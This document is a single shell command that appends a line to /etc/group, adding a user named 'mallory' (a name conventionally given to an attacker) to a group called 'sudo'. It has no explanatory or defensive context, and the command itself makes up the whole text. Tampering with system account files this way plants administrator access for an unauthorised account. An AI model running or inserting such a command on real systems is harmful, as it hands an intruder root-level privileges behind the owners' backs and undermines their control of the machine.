printf 'sudo:x:1777:mallory\n' >> /etc/group
